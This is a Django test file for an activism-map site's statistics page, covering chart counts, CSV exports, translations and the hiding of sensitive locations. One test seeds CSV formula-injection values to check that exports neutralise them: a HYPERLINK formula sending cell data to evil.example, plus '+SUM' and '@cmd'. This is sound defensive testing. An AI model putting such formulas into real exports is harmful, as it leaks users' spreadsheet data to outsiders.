"""Activism in numbers (/numbers/): what the charts count, the tables and CSV files behind them, and the page's
languages, size and empty state."""

import csv
import datetime
import gzip
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone, translation

from activism.models import Event, EventSource, Initiative, PublicationStatus, Region

from .conftest import (
    make_city,
    make_event,
    make_initiative,
    make_region,
    make_theme,
    queries_for,
    run_action,
)

pytestmark = pytest.mark.django_db

Kind = Event.Kind
CHARTS = [
    "events-per-year",
    "initiatives-per-year",
    "initiatives-by-form",
    "events-by-kind",
    "by-theme",
    "by-region",
    "outside-almaty-and-astana",
    "state-responses",
]


def numbers_page(client, language="en"):
    with translation.override(language):
        url = reverse("activism:numbers")
    response = client.get(url)
    assert response.status_code == 200
    return response


def csv_rows(client, chart, language="en"):
    """The rows of a chart's CSV file, as a spreadsheet reads them."""
    with translation.override(language):
        url = reverse("activism:numbers-csv", args=[chart])
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def csv_table(client, chart, language="en"):
    """{first cell: the other cells} of a chart's CSV file, without its heading row."""
    return {row[0]: row[1:] for row in csv_rows(client, chart, language)[1:]}


def page_text(response):
    """The words of the page, tags removed and spaces joined."""
    return " ".join(re.sub(r"<[^>]+>", " ", response.content.decode()).split())


def reading(response, chart):
    """The one-sentence reading under a chart's heading."""
    section = re.search(rf'<section class="numbers-chart" id="{chart}".*?</section>', response.content.decode(), re.S)
    assert section, f"no chart {chart}"
    found = re.search(r'<p class="numbers-chart__reading">(.*?)</p>', section.group(0), re.S)
    return " ".join(found.group(1).split()).replace("&quot;", '"').replace("&#x27;", "'")


@pytest.fixture
def places():
    almaty = make_region("Almaty", kind=Region.Kind.CITY)
    astana = make_region("Astana", kind=Region.Kind.CITY)
    shymkent = make_region("Shymkent", kind=Region.Kind.CITY)
    almaty_region = make_region("Almaty Region")
    karaganda = make_region("Karaganda Region")
    return {
        "almaty": make_city("Almaty", almaty),
        "astana": make_city("Astana", astana, "51.169392", "71.449074"),
        "shymkent": make_city("Shymkent", shymkent, "42.341700", "69.590100"),
        "taldykorgan": make_city("Taldykorgan", almaty_region, "45.017100", "78.382300"),
        "karaganda": make_city("Karaganda", karaganda, "49.806000", "73.085000"),
        "zhezkazgan": make_city("Zhezkazgan", karaganda, "47.783300", "67.766700"),
        "almaty_region": almaty_region,
        "karaganda_region": karaganda,
    }


def test_the_header_leads_to_the_numbers_page(client):
    response = client.get(reverse("activism:home"))
    assert '<a href="/en/numbers/">Numbers</a>' in response.content.decode()
    page = numbers_page(client)
    assert '<a href="/en/numbers/" aria-current="page">Numbers</a>' in page.content.decode()
    assert "<title>Activism in numbers – CAISS Activist Map</title>" in page.content.decode()


def test_an_empty_database_gives_a_page_that_says_so(client):
    response = numbers_page(client)
    content = response.content.decode()
    assert reading(response, "events-per-year") == "No events have been published yet."
    assert reading(response, "initiatives-per-year") == "No published initiative has a known year started yet."
    assert reading(response, "by-region") == "No published initiative or event has a region yet."
    assert reading(response, "state-responses") == "No protests or state responses have been published yet."
    assert '<svg class="chart chart--' not in content and "<table" not in content
    for chart in CHARTS:  # the files hold their headings
        assert len(csv_rows(client, chart)) == 1


def test_events_per_year_count_published_events_in_the_year_they_began(client):
    make_event("New year's eve picket", "2019-12-31", Kind.SOLO_PICKET)
    make_event("New year's day march", "2020-01-01", Kind.MARCH)
    make_event("Three-day camp", "2020-12-30", Kind.PROTEST, end_date="2021-01-02")
    make_event("Petition", "2022-03-01", Kind.ONLINE_CAMPAIGN, date_precision=Event.DatePrecision.MONTH)
    make_event("Arrests", "2022-05-02", Kind.DETENTION)
    make_event("Draft picket", "2021-06-01", Kind.SOLO_PICKET, published=False)
    make_event("In review", "2021-06-02", publication_status=PublicationStatus.REVIEW)
    make_event("Archived", "2021-06-03", publication_status=PublicationStatus.ARCHIVED)

    rows = csv_rows(client, "events-per-year")
    assert rows[0] == [
        "Year",
        "Protests, marches, pickets and art actions",
        "Online campaigns and petitions",
        "Crowdfunding and mutual aid",
        "Hearings, meetings and court cases",
        "State responses",
        "All events",
    ]
    assert {row[0]: row[1:] for row in rows[1:]} == {
        "2019": ["1", "0", "0", "0", "0", "1"],
        "2020": ["2", "0", "0", "0", "0", "2"],
        "2021": ["0", "0", "0", "0", "0", "0"],  # only unpublished events: an empty year, not a gap
        "2022": ["0", "1", "0", "0", "1", "2"],
    }
    response = numbers_page(client)
    assert (
        reading(response, "events-per-year")
        == "Events a year rose from 1 in 2019 to 2 in 2022, with the most, 2, in 2020."
    )
    content = response.content.decode()
    assert '<a href="/en/events/?from=2020&amp;to=2020">2020</a>' in content
    for hidden in ["Draft picket", "In review", "Archived"]:
        assert hidden not in content


@pytest.mark.parametrize(
    ("counts", "expected"),
    [
        ([3, 1], "Events a year fell from 3 in 2018 to 1 in 2019, with the most, 3, in 2018."),
        ([2, 2], "Events a year were 2 both in 2018 and in 2019, with the most, 2, in 2018."),
        ([4], "All 4 published events date from 2018."),
        ([1], "The one published event dates from 2018."),
    ],
)
def test_the_reading_of_events_per_year_follows_the_numbers(client, counts, expected):
    for offset, count in enumerate(counts):
        for number in range(count):
            make_event(f"Event {offset} {number}", f"{2018 + offset}-06-0{number + 1}")
    assert reading(numbers_page(client), "events-per-year") == expected


def test_initiatives_founded_and_active_per_year(client):
    this_year = timezone.localdate().year
    status = Initiative.ActivityStatus
    make_initiative("Ended", year_started=2015, year_ended=2017, activity_status=status.INACTIVE)
    make_initiative("Still going", year_started=2017, activity_status=status.ACTIVE)
    make_initiative("Of unknown activity", year_started=2016)
    make_initiative("Gone quiet", year_started=2016, activity_status=status.INACTIVE)
    make_initiative("Start unknown", year_ended=2016)
    make_initiative("Draft", year_started=2010, published=False)
    make_initiative("Archived", year_started=2010, publication_status=PublicationStatus.ARCHIVED)

    table = csv_table(client, "initiatives-per-year")
    assert list(table) == [str(year) for year in range(2015, this_year + 1)]
    assert table["2015"] == ["1", "1"]
    assert table["2016"] == ["2", "3"]  # the ended one, the one of unknown activity and the one gone quiet
    assert table["2017"] == ["1", "3"]  # the ended one's last year; the one gone quiet counts in its first only
    assert table["2018"] == ["0", "2"]
    assert table[str(this_year)] == ["0", "2"]
    assert reading(numbers_page(client), "initiatives-per-year") == (
        f"The most initiatives were founded in 2016 (2) and the most were active in 2016 (3); in {this_year}, 2 are "
        "active."
    )


def test_initiatives_by_form_and_events_by_kind_link_to_their_lists(client):
    make_initiative("March group", form=Initiative.Form.PROTEST)
    make_initiative("Another march group", form=Initiative.Form.PROTEST)
    make_initiative("Helpers", form=Initiative.Form.VOLUNTEER)
    make_initiative("Hidden helpers", form=Initiative.Form.VOLUNTEER, published=False)
    make_event("Fine", kind=Kind.DETENTION)
    make_event("Picket", kind=Kind.SOLO_PICKET)
    make_event("Another picket", "2020-01-01", kind=Kind.SOLO_PICKET)

    assert csv_table(client, "initiatives-by-form") == {
        "Protest or march": ["2"],
        "Volunteer or assistance initiative": ["1"],
    }
    assert csv_table(client, "events-by-kind") == {"Solo picket": ["2"], "Detention or fine": ["1"]}
    response = numbers_page(client)
    content = response.content.decode()
    assert '<a href="/en/initiatives/?form=protest">Protest or march</a>' in content
    assert '<a href="/en/events/?kind=solo_picket">Solo picket</a>' in content
    assert (
        reading(response, "initiatives-by-form")
        == "The most common form of activism is “Protest or march”: 2 of 3 initiatives."
    )
    assert reading(response, "events-by-kind") == "The most frequent kind of event is “Solo picket”: 2 of 3 events."


def test_themes_count_initiatives_and_events_with_their_own_themes_or_their_initiatives(client):
    ecology = make_theme("Ecology")
    labour = make_theme("Labour")
    make_theme("Unused")
    park = make_initiative("Save the park", themes=[ecology])
    make_initiative("Miners", themes=[labour, ecology])
    make_initiative("Hidden", themes=[labour], published=False)
    make_event("Tree planting", themes=[ecology])
    make_event("Park rally", initiatives=[park])  # on ecology through its initiative
    make_event("Both ways", themes=[ecology], initiatives=[park])  # once, not twice
    make_event("Strike", themes=[labour])
    make_event("Hidden strike", themes=[labour], published=False)

    assert csv_table(client, "by-theme") == {"Ecology": ["2", "3"], "Labour": ["1", "1"]}
    response = numbers_page(client)
    content = response.content.decode()
    assert '<a href="/en/events/?theme=ecology">3</a>' in content
    assert '<a href="/en/initiatives/?theme=labour">1</a>' in content
    assert '<a href="/en/themes/ecology/">Ecology</a>' in content
    assert (
        reading(response, "by-theme")
        == "“Ecology” is the theme of the most initiatives (2) and of the most events (3)."
    )


def test_sensitive_records_count_in_their_region_and_the_totals_but_never_show_their_city(client, places):
    zhezkazgan, karaganda = places["zhezkazgan"], places["karaganda"]
    make_initiative("Quiet miners", cities=[zhezkazgan], is_sensitive=True)
    make_initiative("Open miners", cities=[karaganda])
    make_event("Quiet strike", "2019-05-01", Kind.PROTEST, city=zhezkazgan, is_sensitive=True)
    make_event("Open strike", "2019-06-01", Kind.PROTEST, city=karaganda)
    make_event("Almaty rally", "2019-07-01", Kind.PROTEST, city=places["almaty"])

    assert csv_table(client, "by-region")["Karaganda Region"] == ["2", "2"]
    assert csv_table(client, "events-per-year")["2019"][-1] == "3"
    assert csv_table(client, "outside-almaty-and-astana")["2019"] == ["3", "2", "67"]
    files = [client.get(reverse("activism:numbers-csv", args=[chart])).content.decode() for chart in CHARTS]
    for content in [numbers_page(client).content.decode(), *files]:
        assert "Zhezkazgan" not in content and "zhezkazgan" not in content
        assert "Karaganda</" not in content  # no city figure at all, even for a city with no secret


def test_regions_count_an_initiative_once_in_each_of_its_regions(client, places):
    make_initiative("Two cities", cities=[places["almaty"], places["taldykorgan"]])
    make_initiative("Two cities of one region", cities=[places["karaganda"], places["zhezkazgan"]])
    make_initiative("Online only", is_online=True)
    make_event("Regional picket", region=places["almaty_region"])
    make_event("Nationwide petition", kind=Kind.ONLINE_CAMPAIGN, is_nationwide=True)

    assert csv_table(client, "by-region") == {
        "Almaty": ["1", "0"],
        "Almaty Region": ["1", "1"],
        "Karaganda Region": ["1", "0"],
    }
    content = numbers_page(client).content.decode()
    assert '<a href="/en/initiatives/?region=almaty-region">1</a>' in content
    assert '<a href="/en/events/?region=almaty-region">1</a>' in content
    assert '<a href="/en/regions/karaganda-region/">Karaganda Region</a>' in content


def test_the_share_outside_almaty_and_astana_leaves_out_nationwide_and_online_events(client, places):
    make_event("Almaty rally", "2016-05-01", city=places["almaty"])
    make_event("Astana picket", "2016-05-02", Kind.SOLO_PICKET, city=places["astana"])
    make_event("Shymkent rally", "2016-05-03", city=places["shymkent"])
    make_event("Almaty Region rally", "2016-05-04", region=places["almaty_region"])
    make_event("Nationwide strike", "2016-05-05", is_nationwide=True)
    make_event("Online petition", "2016-05-06", Kind.ONLINE_CAMPAIGN, region=places["almaty_region"], is_online=True)
    make_event("Karaganda rally", "2018-05-01", city=places["karaganda"])
    make_event("Hidden rally", "2018-05-02", city=places["karaganda"], published=False)

    rows = csv_rows(client, "outside-almaty-and-astana")
    assert rows[0] == ["Year", "Events with a known region", "Outside Almaty and Astana", "Share outside (per cent)"]
    assert {row[0]: row[1:] for row in rows[1:]} == {
        "2016": ["4", "2", "50"],
        "2017": ["0", "0", "0"],
        "2018": ["1", "1", "100"],
    }
    assert reading(numbers_page(client), "outside-almaty-and-astana") == (
        "The share of events outside Almaty and Astana went from 50% in 2016 to 100% in 2018 (60% over all the years)."
    )


def test_state_responses_stand_beside_protests(client):
    make_event("Rally", "2019-03-01", Kind.PROTEST)
    make_event("March", "2019-03-08", Kind.MARCH)
    make_event("Banner", "2019-04-21", Kind.ART_ACTION)
    make_event("Arrests", "2019-06-09", Kind.DETENTION)
    make_event("Searches", "2019-06-10", Kind.PRESSURE)
    make_event("Assembly law", "2020-05-25", Kind.LAW_CHANGE)
    make_event("Hearing", "2020-06-01", Kind.MEETING)  # neither

    rows = csv_rows(client, "state-responses")
    assert rows[0] == [
        "Year",
        "Protests",
        "Detention or fine",
        "Pressure on activists",
        "Law or policy change",
        "All state responses",
    ]
    assert {row[0]: row[1:] for row in rows[1:]} == {
        "2019": ["3", "1", "1", "0", "2"],
        "2020": ["0", "0", "0", "1", "1"],
    }
    assert reading(numbers_page(client), "state-responses") == (
        "From 2019 to 2020, the records hold as many state responses as protests (3), and the most responses in 2019 "
        "(2)."
    )


def test_an_editor_archiving_an_initiative_takes_it_out_of_the_numbers(client, editor):
    kept = make_initiative("Kept", year_started=2019, form=Initiative.Form.ART)
    archived = make_initiative("To archive", year_started=2019, form=Initiative.Form.ART)
    assert csv_table(client, "initiatives-by-form") == {"Art activism": ["2"]}
    run_action(editor, Initiative, "archive", [archived])
    assert csv_table(client, "initiatives-by-form") == {"Art activism": ["1"]}
    assert csv_table(client, "initiatives-per-year")["2019"][0] == "1"
    assert kept.pk


def test_csv_files_are_in_the_page_language_and_hold_no_formula(client):
    make_theme('=HYPERLINK("http://evil.example/?x="&A1,"click")', slug="evil")
    make_initiative("Group", themes=[make_theme("+SUM(A1:A9)", slug="sum")], form=Initiative.Form.MOVEMENT)
    make_event("Rally", themes=[make_theme("@cmd", slug="cmd")])
    rows = csv_rows(client, "by-theme")
    assert sorted(row[0] for row in rows[1:]) == ["'+SUM(A1:A9)", "'@cmd"]
    assert csv_rows(client, "by-theme", "ru")[0][:2] == ["Тема", "Инициативы"]
    assert csv_rows(client, "initiatives-by-form", "kk") == [["Белсенділік түрі", "Бастамалар"], ["Қозғалыс", "1"]]
    response = client.get(reverse("activism:numbers-csv", args=["by-theme"]))
    assert re.fullmatch(
        r'attachment; filename="caiss-by-theme-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"]
    )


@pytest.mark.parametrize("chart", ["nope", "by_theme", "events", "numbers"])
def test_an_unknown_chart_has_no_file(client, chart):
    assert client.get(f"/en/numbers/{chart}.csv").status_code == 404


def test_every_chart_has_a_table_a_file_and_a_link_to_what_it_counts(client, places):
    theme = make_theme("Ecology")
    group = make_initiative("Group", cities=[places["almaty"]], themes=[theme], year_started=2018)
    make_event("Rally", city=places["almaty"], initiatives=[group])
    response = numbers_page(client)
    content = response.content.decode()
    for chart in CHARTS:
        section = re.search(rf'<section class="numbers-chart" id="{chart}".*?</section>', content, re.S).group(0)
        assert re.search(r"<h2 [^>]*>[^<]+</h2>", section), chart
        assert '<svg class="chart chart--' in section and "<title " in section and "<desc " in section, chart
        assert "<table>" in section and "<caption " in section, chart
        assert f'href="/en/numbers/{chart}.csv" download' in section, chart
        assert re.search(
            r'href="/en/(events|initiatives)/[^"]*">These (events in the timeline|initiatives in the list)', section
        )


@pytest.mark.parametrize(
    ("language", "region", "form"),
    [("kk", "Астана", "Қозғалыс"), ("ru", "Астана (ru)", "Движение"), ("en", "Astana", "Movement")],
)
def test_the_page_reads_in_each_language(client, places, language, region, form):
    Region.objects.filter(slug="astana").update(name_kk="Астана", name_ru="Астана (ru)")
    make_initiative("Group", cities=[places["astana"]], year_started=2019, form=Initiative.Form.MOVEMENT)
    make_event("Rally", city=places["astana"])
    content = numbers_page(client, language).content.decode()
    assert f'<html lang="{language}">' in content
    assert f'<a href="/{language}/regions/astana/">{region}</a>' in content
    assert f'<a href="/{language}/initiatives/?form=movement">{form}</a>' in content
    assert content.count('<svg class="chart chart--') == len(CHARTS)
    # Coordinates are written as SVG reads them, whatever the language writes decimals with.
    coordinates = re.findall(r' (?:x|y|width|height|cx|cy)="([^"]*)"', content)
    assert coordinates and all(re.fullmatch(r"-?\d+(\.\d+)?", value) for value in coordinates)
    paths = re.findall(r' d="([^"]*)"', content)
    assert paths and all(re.fullmatch(r"M[\d.]+,[\d.]+( L[\d.]+,[\d.]+)*", path) for path in paths)


def test_the_page_stays_small_and_its_queries_fixed_at_ten_thousand_events(client, places):
    cities = [places[name] for name in ["almaty", "astana", "shymkent", "taldykorgan", "karaganda"]]
    themes = [make_theme(f"Theme {number}") for number in range(12)]
    initiatives = [
        make_initiative(
            f"Group {number}", cities=[cities[number % 5]], themes=[themes[number % 12]], year_started=1995 + number
        )
        for number in range(30)
    ]
    kinds = list(Kind)
    url = reverse("activism:numbers")
    make_event("First", "2000-01-01")
    few = queries_for(client, url)

    events = Event.objects.bulk_create(
        Event(
            title=f"Event {number}",
            slug=f"event-{number}",
            summary="An event.",
            date=datetime.date(1990 + number % 37, 1 + number % 12, 1 + number % 28),
            kind=kinds[number % len(kinds)],
            city=cities[number % 5] if number % 9 else None,
            region=cities[number % 5].region if number % 9 else None,
            is_nationwide=not number % 9,
            is_sensitive=number % 5 == 4,
            publication_status=PublicationStatus.PUBLISHED,
        )
        for number in range(10_000)
    )
    EventSource.objects.bulk_create(EventSource(event=event, title="Source") for event in events)
    Event.themes.through.objects.bulk_create(
        Event.themes.through(event=event, theme=themes[number % 12]) for number, event in enumerate(events)
    )
    Event.initiatives.through.objects.bulk_create(
        Event.initiatives.through(event=event, initiative=initiatives[number % 30])
        for number, event in enumerate(events)
    )

    assert queries_for(client, url) == few
    response = numbers_page(client)
    assert csv_table(client, "events-per-year")["2000"][-1] == str(len(range(10, 10_000, 37)) + 1)  # and "First"
    assert len(gzip.compress(response.content)) < 100_000


def test_the_tables_match_the_records(client, places):
    """Many events of every kind, place and state: each table adds up to what the published records say."""
    regions = list(Region.objects.all())
    kinds = list(Kind)
    unpublished = [PublicationStatus.DRAFT, PublicationStatus.REVIEW, PublicationStatus.ARCHIVED]
    for number in range(60):
        city = [None, places["almaty"], places["shymkent"], places["zhezkazgan"], places["astana"]][number % 5]
        make_event(
            f"Event {number}",
            f"{2012 + number % 7}-{1 + number % 12:02d}-{1 + number % 28:02d}",
            kinds[number % len(kinds)],
            city=city,
            region=None if city else regions[number % len(regions)] if number % 2 else None,
            is_nationwide=not city and not number % 2,
            is_online=number % 11 == 0,
            is_sensitive=number % 4 == 0,
            publication_status=PublicationStatus.PUBLISHED if number % 3 else unpublished[number // 3 % 3],
        )
    published = list(Event.objects.published().select_related("region"))
    assert len(published) == 40

    per_year = csv_table(client, "events-per-year")
    for year, cells in per_year.items():
        assert int(cells[-1]) == sum(1 for event in published if event.date.year == int(year))
    assert sum(int(cells[-1]) for cells in per_year.values()) == len(published)
    by_kind = {}
    for event in published:
        by_kind[event.get_kind_display()] = by_kind.get(event.get_kind_display(), 0) + 1
    assert {label: int(cells[0]) for label, cells in csv_table(client, "events-by-kind").items()} == by_kind
    assert {name: int(cells[1]) for name, cells in csv_table(client, "by-region").items()} == {
        region.name: count
        for region in regions
        if (count := sum(1 for event in published if event.region_id == region.pk))
    }
    located = [event for event in published if event.region and not event.is_nationwide and not event.is_online]
    for year, (with_region, outside, share) in csv_table(client, "outside-almaty-and-astana").items():
        in_year = [event for event in located if event.date.year == int(year)]
        assert int(with_region) == len(in_year)
        assert int(outside) == sum(1 for event in in_year if event.region.slug not in ("almaty", "astana"))
        assert int(share) == (round(100 * int(outside) / len(in_year)) if in_year else 0)


def test_a_researchers_initiative_in_review_is_not_counted(client, researcher):
    draft = make_initiative("Our draft", form=Initiative.Form.EDUCATION, year_started=2021, published=False)
    run_action(researcher, Initiative, "submit_for_review", [draft])
    draft.refresh_from_db()
    assert draft.publication_status == PublicationStatus.REVIEW
    assert csv_table(client, "initiatives-by-form") == {}
    assert csv_table(client, "initiatives-per-year") == {}
